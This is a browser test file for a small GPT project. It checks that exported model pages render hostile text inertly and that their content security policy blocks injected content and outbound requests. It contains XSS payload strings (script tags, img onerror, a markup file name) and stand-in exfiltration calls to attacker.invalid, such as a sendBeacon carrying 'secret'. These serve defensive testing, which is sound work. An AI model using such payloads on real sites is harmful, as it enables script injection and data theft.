"""The content security policy, no request, and hostile text."""

import re

import numpy as np
import pytest

import minigpt
from minigpt.config import load_config
from minigpt.models import build_model
from minigpt.tokenizers.kinds import learn_tokenizer
from tests.browser.conftest import Exported
from tests.browser.interface import saved_page, use_everything, wait_until_ready
from tests.browser.runs import write_page, write_run
from tests.targets.gguf.models import Built

pytestmark = pytest.mark.browser

MARKUP = (
    "</script></textarea></title></style></template><script>window.hacked=1</script>"
    '<img src=x onerror="window.hacked=1"><svg onload="window.hacked=1"><!-- ]]> --!> <![CDATA['
)
HOSTILE = (
    f"{MARKUP} \u202e\u2066evil\u2028\u2029\0\x1b[31m \\u003c &lt; ${{window.hacked=1}} `'\" \ufeff"
)
# What a file name can hold.
NAME = "<img src=x onerror=window.hacked=1>&lt;<!--<script>\u202e\u2028"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Exported:
    """A page of a model whose tokens, samples, text and name are markup."""
    kind = {"kind": "byte_pair", "vocab_size": 420}
    sizes = {"embed_dim": 16, "num_heads": 2, "num_layers": 2, "max_len": 24}
    config = load_config({"model": sizes, "tokenizer": kind})
    config = config.model_copy(
        update={"data": config.data.model_copy(update={"license": HOSTILE.replace("\0", "")})}
    )
    tokenizer = learn_tokenizer([HOSTILE + "\n"] * 20, config.tokenizer)
    model = build_model(config.model, tokenizer.vocab_size)
    draw = np.random.default_rng(0)
    model.set_weights([draw.normal(0, 0.2, weight.shape) for weight in model.get_weights()])
    built = Built(model, tokenizer, config)
    run = write_run(
        tmp_path_factory.mktemp("hostile") / NAME,
        built,
        kept_epochs=2,
        prompts=[HOSTILE, MARKUP],
        text=HOSTILE,
        description=HOSTILE,
    )
    return Exported(built, run, write_page(run))


# Every element with the names of its attributes; not the names of ids and classes, which texts do not make.
STRUCTURE = """() => Array.from(document.querySelectorAll("*"), (element) =>
  [element.localName, element.getAttributeNames()])"""


def structure(tab) -> tuple[set[str], set[str]]:
    elements = tab.evaluate(STRUCTURE)
    return {name for name, _ in elements}, {name for _, names in elements for name in names}


@pytest.mark.both
def test_hostile_text_is_shown_as_text(hostile, gpt, open_page, tmp_path):
    tab, usual = open_page(hostile.page), open_page(gpt.page)
    use_everything(tab, HOSTILE)
    use_everything(usual, "Ana")
    elements, attributes = structure(tab)
    usual_elements, usual_attributes = structure(usual)
    assert elements <= usual_elements
    assert attributes <= usual_attributes
    assert not [name for name in attributes if name.startswith("on")]
    assert not elements & {"img", "iframe", "object", "embed", "base", "template", "math"}
    assert tab.evaluate("() => window.hacked ?? null") is None
    counts = """() => ["head > *", "body > *", "main > *", "form"].map((selector) =>
      document.querySelectorAll(selector).length)"""
    assert tab.evaluate(counts) == usual.evaluate(counts)
    assert tab.messages == []
    # So it is in the page that has learned from it.
    again = open_page(saved_page(tab, tmp_path / "saved.html"))
    wait_until_ready(again)
    assert again.evaluate("() => window.hacked ?? null") is None
    assert structure(again)[0] <= usual_elements and again.evaluate(counts) == usual.evaluate(
        counts
    )
    # All of it is there: name, license, description, prompt, samples, and tokens.
    assert "<img src=x" in tab.evaluate("() => document.title")
    title = tab.text("#about-body dd")
    assert title == NAME.replace("\u202e", "‹U+202E›").replace("\u2028", "‹U+2028›")
    assert tab.evaluate("() => minigpt.info.samples[0].text").startswith(HOSTILE)
    text = tab.evaluate("() => document.body.textContent")
    assert text.count(MARKUP) >= 7
    assert tab.text("#text-prompt") == HOSTILE
    labels = (
        "() => Array.from(document.querySelectorAll('.token'), (t) => t.ariaLabel ?? '').join('')"
    )
    assert "<" in tab.evaluate(labels)


# What an attacker would try, each with the rule that refuses it.
ATTEMPTS = {
    "script": ("script-src-elem", "add('script', {textContent: 'window.hacked = 1'})"),
    "image": ("img-src", "add('img', {src: 'http://attacker.invalid/a.png'})"),
    "handler": ("script-src-attr", "handle()"),
    "style": ("style-src-elem", "add('style', {textContent: 'body {opacity: 0}'})"),
    "frame": ("frame-src", "add('iframe', {src: 'http://attacker.invalid/'})"),
    "object": ("object-src", "add('object', {data: 'http://attacker.invalid/'})"),
    "media": ("media-src", "add('audio', {src: 'http://attacker.invalid/a.mp3'})"),
    "font": ("font-src", "new FontFace('a', 'url(http://attacker.invalid/a.woff2)').load()"),
    "fetch": ("connect-src", "fetch('http://attacker.invalid/a')"),
    "beacon": ("connect-src", "navigator.sendBeacon('http://attacker.invalid/a', 'secret')"),
    "socket": ("connect-src", "new WebSocket('ws://attacker.invalid/')"),
    "eval": ("script-src", "later(() => eval('window.hacked = 1'))"),
    "worker": ("worker-src", "new Worker('data:text/javascript,0')"),
    "form": ("form-action", "submit()"),
    "base": ("base-uri", "document.head.append(make('base', {href: 'http://attacker.invalid/'}))"),
}


@pytest.mark.both
def test_what_a_script_would_add_is_refused(gpt, open_page, recorder):
    tab = open_page(gpt.page, offline=False)
    wait_until_ready(tab)
    before = len(recorder.lines)
    for name, (rule, attempt) in ATTEMPTS.items():
        refused = tab.evaluate(
            f"""async () => {{
              const refused = [];
              const listen = (event) => refused.push(event.effectiveDirective);
              document.addEventListener("securitypolicyviolation", listen);
              const make = (tag, values) => Object.assign(document.createElement(tag), values);
              const add = (tag, values) => {{
                const element = make(tag, values);
                document.body.append(element);
                return element;
              }};
              const later = (work) => new Promise((resolve) => {{
                setTimeout(() => {{ try {{ work(); }} finally {{ resolve(); }} }});
              }});
              const handle = () => {{
                const element = add("b", {{}});
                element.setAttribute("onclick", "window.hacked = 1");
                element.click();
              }};
              const submit = () => {{
                add("form", {{ action: "http://attacker.invalid/", method: "post" }}).submit();
              }};
              try {{ await Promise.race([{attempt}, new Promise((r) => setTimeout(r, 500))]); }} catch {{}}
              await new Promise((resolve) => setTimeout(resolve, 100));
              document.removeEventListener("securitypolicyviolation", listen);
              return refused;
            }}"""
        )
        assert rule in refused, name
    assert tab.evaluate("() => window.hacked ?? null") is None
    assert tab.evaluate("() => getComputedStyle(document.body).opacity") == "1"
    assert not [line for line in recorder.lines[before:] if "attacker" in line]


@pytest.mark.both
def test_no_request_is_made(gpt, pairs, open_page, recorder, tmp_path):
    """Not even with a network. The proxy that everything would go to sees nothing."""
    for exported in (gpt, pairs):
        before = len(recorder.lines)
        tab = open_page(exported.page, offline=False)
        use_everything(tab, "Ana http://attacker.invalid/ sat")
        tab.generate("Ana")
        own = {address for address in tab.requests if not address.startswith(("blob:", "data:"))}
        assert own <= {exported.page.absolute().as_uri()}
        assert not [line for line in recorder.lines[before:] if is_of_a_page(line)]
    # Requests of a page without a policy, and of its worker, are seen.
    page = tmp_path / "control.html"
    page.write_text(
        """<script>
        const source = "fetch('http://worker.invalid/').catch(() => postMessage(0))";
        const worker = new Worker(URL.createObjectURL(new Blob([source])));
        const answer = new Promise((resolve) => { worker.onmessage = resolve; });
        window.done = Promise.all([answer, fetch("http://page.invalid/").catch(() => {})]);
        </script>"""
    )
    before = len(recorder.lines)
    tab = open_page(page, offline=False)
    tab.evaluate(
        "async () => { await Promise.race([done, new Promise((r) => setTimeout(r, 3000))]); }"
    )
    seen = " ".join(recorder.lines[before:])
    assert "page.invalid" in seen and "worker.invalid" in seen
    assert any("page.invalid" in address for address in tab.requests)


def is_of_a_page(line: str) -> bool:
    """Whether a request is not one that a browser makes by itself."""
    return not re.search(r"mozilla|firefox|google|gstatic|chromium", line)


def test_a_page_in_a_notebook_runs_its_model_and_cannot_reach_the_notebook(chromium, gpt, tmp_path):
    frame = minigpt.InlinePage(gpt.page)._repr_html_()
    (tmp_path / "notebook.html").write_text(f"<title>notebook</title>{frame}", encoding="utf-8")
    tab = chromium.open(tmp_path / "notebook.html")
    page = tab.page.frames[1]
    result = page.evaluate(
        "minigpt.ready.then(() => minigpt.generate({ prompt: 'Ana', temperature: 0 }))"
    )
    expected = gpt.portable().generate("Ana", 30, temperature=0, stop=["hill"])
    assert [result["text"]] == expected
    assert (
        page.evaluate("(() => { try { return parent.document.title } catch { return '' } })()")
        == ""
    )
    tab.close()
